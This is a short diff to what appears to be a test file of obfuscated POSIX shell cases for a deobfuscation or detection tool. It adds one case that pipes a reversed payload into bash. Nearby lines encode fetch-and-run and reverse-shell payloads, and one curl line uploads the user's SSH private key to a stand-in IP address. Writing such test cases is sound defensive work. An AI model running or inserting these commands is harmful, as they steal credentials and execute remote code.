@@ -16,6 +16,7 @@ deobfCases("posix", [
       `bash <<< "$(base64 -d <<< ${enc.b64(FETCH)})"`,
       `echo '${enc.rot13(FETCH)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
       `eval "$(printf '${enc.oct(REV)}')"`,
+      `printf %s '${enc.rev(REV)}' | rev | bash`,
       `echo '${
         enc.b64(enc.rev("curl -F f=@$HOME/.ssh/id_rsa http://198.51.100.7/u"))
       }' | base64 -d | rev | sh`,
